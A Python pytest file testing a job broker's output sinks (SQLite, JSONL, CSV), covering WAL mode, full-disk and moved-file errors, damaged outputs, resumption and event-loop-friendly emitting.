    def test_a_closed_output_opens_read_only(self, tmp_path: Path) -> None:
        """A closed SQLite output is out of WAL mode, with no -wal or -shm beside it, so a
        reader who may not write its folder (another user, a read-only volume) opens it:
        in WAL mode even a read-only open needs the -shm file, and failed. (Pinned by the
        journal mode: the tests run as a user who may write the folder.)"""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            emit(ledger, sink)
            sink.close()
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("out.")) == [
            "out.sqlite"
        ]
        reader = sqlite3.connect(f"file:{out}?mode=ro", uri=True)
        try:
            assert reader.execute("PRAGMA journal_mode").fetchone() == ("delete",)
            assert reader.execute("SELECT count(*) FROM results").fetchone() == (10,)
        finally:
            reader.close()

    def test_rows_and_columns(self, tmp_path: Path) -> None:
        """One row per input row with the documented columns and the JSON row."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            state = emit(ledger, sink)
            sink.close()
            expected = {row["line"]: row for row in expected_lines(ledger)}
        assert state == SinkState(0, 10)
        rows = sqlite_rows(out)
        assert [seq for seq, *_ in rows] == list(range(10))
        for _, line, status, row_json in rows:
            assert json.loads(str(row_json)) == expected[line]
            assert status == expected[line]["status"]
        with sqlite_db(out) as conn:
            columns = [c[1] for c in conn.execute("PRAGMA table_info(results)")]
            price = conn.execute("SELECT price, title FROM results WHERE line = 1").fetchone()
            cached = conn.execute("SELECT DISTINCT typeof(cached), cached FROM results").fetchall()
        conn.close()
        assert columns == ["seq", *CSV_COLUMNS, "row_json"]
        assert price == (4.5, "Thé, «vert»")
        assert cached == [("integer", 0)]  # the INTEGER column holds 0/1, so WHERE cached works

    @pytest.mark.parametrize("damage", ["moved", "deleted"])
    def test_a5_output_moved_or_deleted_while_the_run_writes_is_noticed(
        self, tmp_path: Path, damage: str
    ) -> None:
        """A5 for SQLite while running: the output moved or deleted under the run is
        noticed at the next flush, an OSError naming it (exit 74), as for JSONL and CSV; the
        run went on committing into the moved file (or the journal of the deleted one) and
        ended with exit 0, its rows split between two files. The next open writes it again
        from the ledger, every row once."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            sink.open(ledger.sink_state("out"))
            sink.write(ledger.done_rows_after(0, limit=4))
            ledger.set_sink_state("out", sink.flush())
            if damage == "moved":
                out.rename(tmp_path / "elsewhere.sqlite")
            else:
                out.unlink()
            sink.write(ledger.done_rows_after(4, limit=3))
            with pytest.raises(OSError, match="deleted or replaced while this run wrote it"):
                sink.flush()
            with pytest.raises(OSError, match="an earlier write failed"):
                sink.flush()
            sink.close()
            state = emit_closed(ledger, SqliteSink(out))
        assert state == SinkState(0, 10)
        assert [seq for seq, *_ in sqlite_rows(out)] == list(range(10))

    def test_a5_output_moved_during_the_commit_is_noticed(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Moved between the look before the commit and the commit itself, the output is
        noticed after it: the flush raises and records nothing, so the rows are written
        again."""
        out = tmp_path / "out.sqlite"
        real_check = sinks._check_in_place
        looks = 0

        def moved_after_the_first_look(path: Path, identity: tuple[int, int] | None) -> None:
            nonlocal looks
            real_check(path, identity)
            looks += 1
            if looks == 1:
                out.rename(tmp_path / "elsewhere.sqlite")

        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            sink.open(ledger.sink_state("out"))
            sink.write(ledger.done_rows_after(0, limit=4))
            monkeypatch.setattr(sinks, "_check_in_place", moved_after_the_first_look)
            with pytest.raises(OSError, match="deleted or replaced while this run wrote it"):
                sink.flush()
            monkeypatch.undo()
            sink.close()
            assert ledger.sink_state("out") == SinkState()
            state = emit_closed(ledger, SqliteSink(out))
        assert state == SinkState(0, 10)
        assert [seq for seq, *_ in sqlite_rows(out)] == list(range(10))

    @pytest.mark.parametrize(
        "damage", ["DELETE FROM results WHERE seq % 3 = 0", "DROP TABLE results"]
    )
    def test_a5_rows_deleted_by_hand_are_written_again(self, tmp_path: Path, damage: str) -> None:
        """A5 for SQLite: rows (or the table) deleted by hand from a finished output are
        written again from the ledger, every row once; it said complete and kept 2/3."""
        out = tmp_path / "out.sqlite"
        state, events = _altered_and_resumed(tmp_path, out, damage)
        assert state == SinkState(0, 10)
        assert [seq for seq, *_ in sqlite_rows(out)] == list(range(10))
        assert "broker.output_shorter_than_recorded" in events

    def test_an_older_brokers_table_is_written_again_under_ours(self, tmp_path: Path) -> None:
        """An output an older broker began with fewer columns (no image_url, no cached) is
        written again from the ledger under this broker's table when the job resumes: it
        was refused as another program's ("choose another output path"), and the ledger
        beside it, and every request it paid for, was lost with the path."""
        out = tmp_path / "out.sqlite"
        older = [c for c in ("seq", *CSV_COLUMNS, "row_json") if c not in ("image_url", "cached")]
        state, events = _altered_and_resumed(
            tmp_path,
            out,
            f"CREATE TABLE older AS SELECT {', '.join(older)} FROM results",
            "DROP TABLE results",
            "ALTER TABLE older RENAME TO results",
        )
        assert state == SinkState(0, 10)
        assert [seq for seq, *_ in sqlite_rows(out)] == list(range(10))
        with sqlite_db(out) as conn:
            columns = [c[1] for c in conn.execute("PRAGMA table_info(results)")]
        conn.close()
        assert columns == ["seq", *CSV_COLUMNS, "row_json"]
        assert "broker.output_rewritten" in events

    def test_another_programs_table_is_still_refused(self, tmp_path: Path) -> None:
        """A results table that is no broker's (no broker_sink table beside it, or columns
        of its own) is refused and left untouched, as before."""
        out = tmp_path / "out.sqlite"
        with sqlite_db(out) as conn:
            conn.execute("CREATE TABLE results (seq INTEGER, line INTEGER)")
        conn.close()
        with pytest.raises(JobFileError, match="other columns"):
            SqliteSink(out).open(SinkState(0, 3))

    def test_a9_a_damaged_output_is_refused_and_left_untouched(self, tmp_path: Path) -> None:
        """A SQLite output cut in half (a torn copy, a partial restore): a JobFileError naming
        it and saying what to do, the file untouched; it was exit 1, "internal error"."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path, count=400) as ledger:
            sink = SqliteSink(out)
            emit(ledger, sink, batch=100)
            sink.close()
        data = out.read_bytes()
        out.write_bytes(data[: len(data) // 2])
        with pytest.raises(JobFileError, match="damaged") as caught:
            SqliteSink(out).open(SinkState(0, 400))
        assert str(out) in str(caught.value)
        assert out.read_bytes() == data[: len(data) // 2]

    def test_upsert_is_idempotent(self, tmp_path: Path) -> None:
        """Writing the same rows again (a resume re-emitting) leaves one row per seq."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            first = SqliteSink(out)
            emit(ledger, first)
            first.close()
            sink = SqliteSink(out)
            assert sink.open(SinkState(0, 4)) == SinkState(0, 10)  # its own state wins
            sink.write(ledger.done_rows_after(0, limit=100))
            assert sink.flush() == SinkState(0, 10)
            sink.close()
        assert len(sqlite_rows(out)) == 10

    def test_unflushed_rows_are_rolled_back(self, tmp_path: Path) -> None:
        """Rows written but not flushed are not in the file after close."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            sink.open(SinkState())
            sink.write(ledger.done_rows_after(0, limit=3))
            sink.flush()
            sink.write(ledger.done_rows_after(3, limit=3))
            sink.close()
            assert len(sqlite_rows(out)) == 3
            sink = SqliteSink(out)
            assert sink.open(SinkState(0, 3)) == SinkState(0, 3)
            sink.close()

    def test_fresh_state_empties_the_table(self, tmp_path: Path) -> None:
        """State (0, 0) clears rows of an earlier job before writing."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            first = SqliteSink(out)
            emit(ledger, first)
            first.close()
            sink = SqliteSink(out)
            assert sink.open(SinkState()) == SinkState(0, 0)
            sink.close()
        assert sqlite_rows(out) == []

    def test_a7_disk_full_is_an_os_error(self, tmp_path: Path) -> None:
        """A7: SQLITE_FULL becomes OSError(ENOSPC); the sink's state does not move."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path, count=400) as ledger:
            sink = SqliteSink(out)
            sink.open(SinkState())
            sink.write(ledger.done_rows_after(0, limit=2))
            assert sink.flush() == SinkState(0, 2)
            assert sink._conn is not None
            (pages,) = sink._conn.execute("PRAGMA page_count").fetchone()
            sink._conn.execute(f"PRAGMA max_page_count = {pages + 1}")
            with pytest.raises(OSError, match="disk full") as caught:
                sink.write(ledger.done_rows_after(2, limit=398))
            assert caught.value.errno == errno.ENOSPC
            with pytest.raises(OSError, match="earlier write failed"):
                sink.flush()
            sink.close()
            sink = SqliteSink(out)
            assert sink.open(SinkState(0, 2)) == SinkState(0, 2)
            sink.close()

    def test_a_full_disk_at_close_is_an_os_error_naming_the_output(self, tmp_path: Path) -> None:
        """A full disk that keeps the flushed rows in the -wal at close (they cannot be copied
        into the file, nor the file leave WAL mode) raises ENOSPC naming the output, and
        closes it; it was swallowed, the run exited 0 with the output in WAL mode."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            emit(ledger, sink)
            real = sink._conn
            assert real is not None
            sink._conn = FullAtCheckpoint(real)  # type: ignore[assignment]
            with pytest.raises(OSError, match="disk full") as caught:
                sink.close()
        assert caught.value.errno == errno.ENOSPC
        assert caught.value.filename == str(out)
        with pytest.raises(sqlite3.ProgrammingError):
            real.execute("SELECT 1")  # closed

    def test_a_reader_at_close_keeps_the_output_in_wal_mode_quietly(self, tmp_path: Path) -> None:
        """A viewer in a read transaction at close keeps the output in WAL mode: no error (it
        is whole with its -wal, where it is), and not waited for."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = SqliteSink(out)
            emit(ledger, sink, batch=100)
            viewer = sqlite3.connect(out, isolation_level=None)
            try:
                viewer.execute("BEGIN")
                viewer.execute("SELECT count(*) FROM results").fetchone()
                sink.close()
                (mode,) = viewer.execute("PRAGMA journal_mode").fetchone()
            finally:
                viewer.close()
        assert mode == "wal"
        assert len(sqlite_rows(out)) == 10

    def test_an_output_another_program_holds_is_an_os_error(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A SQLite output another program holds in a write transaction (a sqlite3 shell, a
        viewer) is an OSError naming the file and what to do (exit 74, "cannot write the
        output"); it was a bare sqlite3 error, reported as an internal error (exit 1)."""
        import sqlite3

        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            first = SqliteSink(out)
            emit(ledger, first)
            first.close()
        holder = sqlite3.connect(out, isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")
        connect = sqlite3.connect
        monkeypatch.setattr(
            sinks.sqlite3, "connect", lambda *a, **k: connect(*a, **{**k, "timeout": 0.05})
        )
        monkeypatch.setattr(sinks, "_WAL_SWITCH_S", 0.05)
        monkeypatch.setattr(sinks, "_BUSY_MS", 50)  # the pragma replaces connect's timeout
        try:
            with pytest.raises(OSError, match="another program") as caught:
                SqliteSink(out).open(SinkState(0, 0))
            assert caught.value.errno == errno.EBUSY
            assert str(out) in str(caught.value)
        finally:
            holder.close()

    def test_not_sqlite_is_refused_untouched(self, tmp_path: Path) -> None:
        """An existing non-SQLite file at the output path is refused and left alone."""
        out = tmp_path / "out.sqlite"
        out.write_text("my notes\n")
        with pytest.raises(JobFileError, match="not a SQLite database"):
            SqliteSink(out).open(SinkState())
        assert out.read_text() == "my notes\n"


def test_a_sqlite_output_made_like_another_has_its_mode_in_its_wal_too(tmp_path: Path) -> None:
    """create_like gives a new SQLite output the mode of the one it replaces before SQLite
    makes its -wal, which takes the file's mode when made (a chmod after left it 0644)."""
    old = tmp_path / "old.sqlite"
    old.write_bytes(b"")
    old.chmod(0o600)
    new = tmp_path / "new.sqlite"
    sinks.create_like(new, os.stat(old))
    sink = SqliteSink(new)
    try:
        with make_ledger(tmp_path) as ledger:
            emit(ledger, sink)
        wal = tmp_path / "new.sqlite-wal"
        assert wal.exists()
        assert stat.S_IMODE(wal.stat().st_mode) == 0o600
        assert stat.S_IMODE(new.stat().st_mode) == 0o600
    finally:
        sink.close()


class TestInvalidReport:
    def test_lists_invalid_rows_and_rewrites(self, tmp_path: Path) -> None:
        """The report lists each invalid row's line, input and reason; rewriting is idempotent."""
        report = InvalidReport(tmp_path / "out.jsonl.invalid.jsonl")
        with make_ledger(tmp_path) as ledger:
            assert report.write(ledger) == 2
            first = report.path.read_bytes()
            assert report.write(ledger) == 2
        assert report.path.read_bytes() == first
        assert jsonl(report.path) == [
            {
                "line": 5,
                "input": 'bad "id"\nsecond line',
                "reason": "not an ASIN: 'bad \"id\"\\nsecond line'",
            },
            {"line": 10, "input": "bad9", "reason": "not an ASIN: 'bad9'"},
        ]
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []

    def test_a_full_disk_names_the_report_and_leaves_no_part(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A full disk while the report is written raises an error naming it and leaves no
        ``.tmp`` beside the output (it named no file, and the part stayed)."""
        report = InvalidReport(tmp_path / "out.jsonl.invalid.jsonl")

        def full(fd: int) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

        with make_ledger(tmp_path) as ledger:
            monkeypatch.setattr(sinks.os, "fsync", full)
            with pytest.raises(OSError, match="No space left") as raised:
                report.write(ledger)
        assert raised.value.filename == str(report.path) + ".tmp"
        assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]

    def test_no_invalid_rows_no_report(self, tmp_path: Path) -> None:
        """Without invalid rows there is no report, and a stale one is removed."""
        report = InvalidReport(tmp_path / "out.invalid.jsonl")
        report.path.write_text("stale\n")
        with make_ledger(tmp_path, count=4) as ledger:
            assert report.write(ledger) == 0
        assert not report.path.exists()


class TestOpenSink:
    @pytest.mark.parametrize(
        ("name", "kind"), [("jsonl", JsonlSink), ("csv", CsvSink), ("sqlite", SqliteSink)]
    )
    def test_formats(self, tmp_path: Path, name: str, kind: type) -> None:
        """Each documented format gives its sink."""
        assert isinstance(open_sink(name, tmp_path / "out"), kind)

    def test_unknown_format(self, tmp_path: Path) -> None:
        """An unknown format is a ValueError naming the choices."""
        with pytest.raises(ValueError, match="jsonl, csv, sqlite"):
            open_sink("parquet", tmp_path / "out")

    @pytest.mark.parametrize("name", FORMATS)
    def test_every_format_resumes_to_the_same_rows(self, tmp_path: Path, name: str) -> None:
        """Emitting in two runs (a stop in between) gives the same rows as one run."""
        out = tmp_path / f"out.{name}"
        with make_ledger(tmp_path) as ledger:
            sink = open_sink(name, out)
            state = sink.open(SinkState())
            sink.write(ledger.done_rows_after(0, limit=5))
            ledger.set_sink_state("out", sink.flush())
            sink.close()
            again = open_sink(name, out)
            emit(ledger, again)
            again.close()
            state = ledger.sink_state("out")
        assert state.done_order == 10
        if name == "jsonl":
            assert len(jsonl(out)) == 10
        elif name == "csv":
            assert len(list(csv.reader(io.StringIO(out.read_text(), newline="")))) == 11
        else:
            assert len(sqlite_rows(out)) == 10


@pytest.mark.parametrize("data", [b'{"a":1}\n{"b":2}\n', b"x\n\n\n\ny\n", b"a,b\r\nc,d\r\n", b"ab"])
def test_torn_write_of_the_crash_hook_never_ends_a_record(data: bytes) -> None:
    """The mid_write crash hook leaves a prefix of the data that stops inside a record."""
    torn = sinks._torn(data)
    assert data.startswith(torn)
    assert 0 < len(torn) < len(data)
    assert not torn.endswith((b"\n", b"\r"))


def test_done_row_fields_cover_output(tmp_path: Path) -> None:
    """output_row needs nothing beyond DoneRow: it works on a hand-made row."""
    row = DoneRow(1, 0, 3, "x", None, US, "invalid", None, "bad", {"a": "b"})
    out = output_row(row)
    assert out["extra"] == {"a": "b"}
    assert out["line"] == 3


@pytest.mark.parametrize(
    "item",
    [
        {"images": {"primary": {"small": {"url": "s.jpg"}, "large": {"url": "l.jpg"}}}},
        {"Images": {"Primary": {"Small": {"URL": "s.jpg"}, "Large": {"URL": "l.jpg"}}}},
        # The size a fresh answer's summary picks (highRes first), not another reader's.
        {"images": {"primary": {"highRes": {"url": "l.jpg"}, "large": {"url": "s.jpg"}}}},
    ],
)
def test_a_summary_stored_before_image_url_gets_it_from_the_item(
    item: dict[str, object],
) -> None:
    """A result a broker stored before summaries had ``image_url`` (a job resumed after an
    upgrade) is written with the item's largest primary image, in both spellings: every
    such row had it empty once the output was written again under the new columns."""
    older = {"title": "T", "price": 1.0, "currency": "USD", "availability": None}
    row = DoneRow(
        1, 0, 1, "B000000001", "B000000001", US, "ok", {"item": item, "summary": older}, None, None
    )
    out = output_row(row)
    assert out["summary"] == {**older, "image_url": "l.jpg"}
    assert sinks._column_values(out)[10] == "l.jpg"
    # A summary of this version, image or none, is written as stored.
    stored = {**older, "image_url": None}
    row = DoneRow(
        1, 0, 1, "B000000001", "B000000001", US, "ok", {"item": item, "summary": stored}, None, None
    )
    assert output_row(row)["summary"] == stored


class TestEmittingOnTheLoop:
    """The runner writes rows a page at a time, giving the event loop a turn between pages."""

    async def test_two_emitters_taking_turns_write_every_row_once(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Two page-at-a-time emitters at once (a commit and the idle committer) write each
        row once, and the loop runs between their pages: one emit of every row held a
        daemon's /healthz for seconds (half a million rows final at ingestion)."""
        from broker.jobs import runner

        monkeypatch.setattr(runner, "_EMIT_ROWS", 3)
        out = tmp_path / "out.jsonl"
        ticks = 0

        async def tick() -> None:
            nonlocal ticks
            while True:
                ticks += 1
                await asyncio.sleep(0)

        with make_ledger(tmp_path, count=40) as ledger:
            sink = open_sink("jsonl", out)
            ledger.set_sink_state("out", sink.open(ledger.sink_state("out")))
            ticker = asyncio.ensure_future(tick())
            stop = runner._Stop(grace_s=20.0)
            await asyncio.gather(
                runner._emit_yielding(ledger, sink, "out", stop),
                runner._emit_yielding(ledger, sink, "out", stop),
            )
            ticker.cancel()
            sink.close()
            expected = expected_lines(ledger)
        assert jsonl(out) == expected
        assert ticks >= 6  # 14 pages, two emitters: the loop ran between their pages

    async def test_a_forced_stop_ends_the_write_between_pages(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A stop forced (a second signal) while rows are written a page at a time ends the
        write at the next page: it went on to the last row, half a minute for a million,
        deaf to every signal; the rest stay in the ledger for the rerun."""
        from broker.jobs import runner

        monkeypatch.setattr(runner, "_EMIT_ROWS", 3)
        out = tmp_path / "out.jsonl"
        with make_ledger(tmp_path, count=40) as ledger:
            sink = open_sink("jsonl", out)
            ledger.set_sink_state("out", sink.open(ledger.sink_state("out")))
            stop = runner._Stop(grace_s=20.0)
            asyncio.get_running_loop().call_soon(stop.fail, RuntimeError("forced"))
            await runner._emit_yielding(ledger, sink, "out", stop)
            sink.close()
            assert ledger.sink_state("out").done_order == 3
        assert len(jsonl(out)) == 3

    def test_an_ordering_a_signal_stops_leaves_the_output_as_it_was(self, tmp_path: Path) -> None:
        """--ordered's export stopped (a signal) keeps the output and its state as they were
        and leaves no temporary file; it ran to its end, a minute for a million rows,
        deaf to Ctrl-C."""
        from broker.jobs import runner
        from broker.jobs.paths import ordering_path

        out = tmp_path / "out.jsonl"
        with make_ledger(tmp_path, count=3000) as ledger:
            sink = open_sink("jsonl", out)
            emit(ledger, sink)
            sink.close()
            before, state = out.read_bytes(), ledger.sink_state("out")
            options = runner.JobOptions(job=tmp_path / "job.txt", out=out, format="jsonl")
            assert not runner._export_ordered(ledger, options, "out", None, stopped=lambda: True)
            assert ledger.sink_state("out") == state
        assert out.read_bytes() == before
        assert not ordering_path(out).exists()

    async def test_a_cancelled_run_waits_for_its_thread(self) -> None:
        """A run cancelled while a thread reads its ledger (the invalid-rows report, the
        ordering) asks the thread to stop and waits for it before the cancellation goes
        on: the run then closes the ledger and releases the job's lock, and a thread left
        running wrote on a closed ledger, or put back a file the run's end had removed."""
        from broker.jobs import runner

        release, finished = threading.Event(), threading.Event()

        def work() -> int:
            release.wait(5)
            finished.set()
            return 1

        task = asyncio.ensure_future(runner._in_thread(work))
        await asyncio.sleep(0.05)
        task.cancel()
        await asyncio.sleep(0.05)
        task.cancel()  # a second cancellation (a daemon stopping) does not end the wait
        await asyncio.sleep(0.05)
        assert not task.done()
        release.set()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert finished.is_set()
        release.clear()
        finished.clear()
        asked = asyncio.ensure_future(runner._in_thread(work, on_cancel=release.set))
        await asyncio.sleep(0.05)
        asked.cancel()
        with pytest.raises(asyncio.CancelledError):
            await asked
        assert finished.is_set()

    async def test_a_sqlite_output_opened_in_a_thread_is_written_from_the_loop(
        self, tmp_path: Path
    ) -> None:
        """The runner opens its output in a worker thread (a SQLite output counts its rows
        as it opens: seconds for a million, on the loop) and writes it from the loop's."""
        out = tmp_path / "out.sqlite"
        with make_ledger(tmp_path) as ledger:
            sink = open_sink("sqlite", out)
            state = await asyncio.to_thread(sink.open, ledger.sink_state("out"))
            ledger.set_sink_state("out", state)
            emit_more(ledger, sink)
            sink.close()
            expected = len(expected_lines(ledger))
        with sqlite_db(out) as db:
            (count,) = db.execute("SELECT count(*) FROM results").fetchone()
        assert count == expected
